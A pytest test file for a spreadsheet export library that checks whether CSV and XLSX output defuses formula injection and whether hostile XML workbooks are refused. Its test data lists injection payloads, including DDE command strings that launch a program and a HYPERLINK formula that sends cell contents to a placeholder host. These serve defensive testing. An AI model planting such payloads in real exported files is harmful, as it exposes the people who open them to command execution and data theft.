import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from masterplan.core.sheets.errors import FileRefused
from masterplan.core.sheets.neutral import is_dangerous, neutral, original
from masterplan.core.sheets.reader import read_workbook
from masterplan.core.sheets.writer import (
    RESULT_HEADINGS,
    Column,
    Mark,
    SheetSpec,
    csv_lines,
    mark_cells,
    write_xlsx,
)
from tests.core.sheets.hostile import book, sheet

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://x.test?q="&A1,"klik")',
    "+62 812",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "\ufeff=1",
    "=cmd|'/C calc'!A1",
    "http://contoh.test/",
    "mailto:a@b.test",
    "<script>alert(1)</script>",
    "{=1+1}",
    "nul\x00di tengah",
    "\x0b=1+1",
    "-",
)
LEADING = tuple("=+-@\t\r＝＋－＠")
COLUMNS = [Column("Nama Inovasi", 40), Column("Anggaran (Rp)"), Column("=Kepala")]
DAY = dt.date(2023, 3, 1)


def _csv(columns, rows, **options):
    text = "".join(csv_lines(columns, rows, **options))
    assert text.startswith("\ufeff")
    delimiter = options.get("delimiter", ",")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def test_csv_holds_no_live_cell_and_keeps_numbers():
    rows = [(text, -5, None) for text in HOSTILE]
    read = _csv(COLUMNS, rows)
    assert read[0] == ["Nama Inovasi", "Anggaran (Rp)", "'=Kepala"]
    assert not any(row[0].startswith(LEADING) for row in read)
    assert {row[1] for row in read[1:]} == {"-5"}


def test_csv_values_chunks_and_delimiter():
    values = (True, False, DAY, Decimal("1.5"), 2.5, None, "a;b")
    columns = [Column(str(n)) for n in range(7)]
    assert _csv(columns, [values], delimiter=";")[1] == [
        "Ya",
        "Tidak",
        "2023-03-01",
        "1.5",
        "2.5",
        "",
        "a;b",
    ]
    chunks = list(csv_lines(columns, [values] * 1200))
    assert len(chunks) == 3
    assert sum(chunk.count("\r\n") for chunk in chunks) == 1201


def test_csv_lines_above_the_table():
    read = _csv([Column("A")], [("b",)], lines=["Daftar inovasi", "=status"])
    assert read == [["Daftar inovasi"], ["'=status"], ["A"], ["b"]]


def test_xlsx_holds_no_live_cell(tmp_path):
    path = tmp_path / "a.xlsx"
    rows = [(text, -5, DAY) for text in HOSTILE]
    spec = SheetSpec("=Data/[1]", COLUMNS, rows, lines=("=Judul", "Dimensi: semua"))
    write_xlsx(path, sheets=[spec, spec])
    workbook = openpyxl.load_workbook(path)
    assert len(workbook.sheetnames) == 2
    for page in workbook:
        cells = [cell for row in page.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
        assert not any(cell.hyperlink for cell in cells)
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        assert not any(text.startswith(LEADING) for text in texts)
        assert page["A4"].value == "Nama Inovasi"
        assert page["B5"].value == -5
        assert page.freeze_panes == "B5"
        assert page.column_dimensions["A"].width == pytest.approx(40, abs=1)


def test_xlsx_to_a_file_object_and_back():
    target = io.BytesIO()
    write_xlsx(target, sheets=[SheetSpec("Data", [Column("A")], [("x" * 40_000,)])])
    target.seek(0)
    assert len(openpyxl.load_workbook(target).active["A2"].value) == 32_767


def test_exported_text_is_read_back_as_it_was(tmp_path):
    path = tmp_path / "a.xlsx"
    kept = [text for text in HOSTILE if "\x00" not in text and "\x0b" not in text]
    write_xlsx(path, sheets=[SheetSpec("D", [Column("A")], [(text,) for text in kept])])
    rows = read_workbook(path).sheets[0].rows
    read = [rows[number + 2][1].value for number in range(len(kept))]
    assert read == kept


@given(st.text())
def test_neutral_text_is_harmless_and_comes_back(text):
    safe = neutral(text)
    assert not safe.startswith(LEADING)
    clean = neutral("a" + text)[1:]
    assert original(neutral(clean)) == clean
    assert is_dangerous(clean) == (neutral(clean) != clean)


@given(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=3))
def test_csv_of_any_text_is_harmless(texts):
    columns = [Column("A")] * len(texts)
    assert not any(cell.startswith(LEADING) for cell in _csv(columns, [texts])[1])


def test_marked_workbook(tmp_path):
    source, target = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    workbook = openpyxl.Workbook()
    page = workbook.active
    page.title = "Data"
    page.append(["Nama", "Anggaran"])
    page.append(["SICERDAS", "Rp 1.250.00.000,-"])
    page.merge_cells("A3:A5")
    workbook.create_sheet("Hasil impor")["A1"] = "dari impor sebelumnya"
    workbook.save(source)
    marks = [
        Mark("Data", 2, "B2", "bad_budget", "Sel B2: tidak terbaca.", "Dinas A"),
        Mark("Data", 4, "A4", "missing_name", "=HYPERLINK(1)", "=OPD"),
        Mark("Data", 2, "B2", "bad_date", "Kedua."),
    ]
    mark_cells(source, target, marks)
    saved = openpyxl.load_workbook(target)
    assert saved.sheetnames == ["Data", "Hasil impor"]
    data, result = saved["Data"], saved["Hasil impor"]
    assert data["B2"].value == "Rp 1.250.00.000,-"
    assert data["B2"].fill.start_color.rgb == "FFFFC7CE"
    assert data["B2"].comment.text == "Sel B2: tidak terbaca.\nKedua."
    assert data["A3"].comment.text == "'=HYPERLINK(1)"
    assert tuple(cell.value for cell in result[1]) == RESULT_HEADINGS
    assert [cell.value for cell in result[3]] == [
        "Data",
        4,
        "A4",
        "missing_name",
        "'=HYPERLINK(1)",
        "'=OPD",
    ]
    assert "f" not in {cell.data_type for row in result for cell in row}


def test_marking_a_hostile_file_is_refused(tmp_path):
    (tmp_path / "a.xlsx").write_bytes(book(sheet="<!DOCTYPE a>" + sheet()))
    with pytest.raises(FileRefused) as refused:
        mark_cells(tmp_path / "a.xlsx", tmp_path / "b.xlsx", [])
    assert refused.value.code == "forbidden_xml"
    assert not (tmp_path / "b.xlsx").exists()
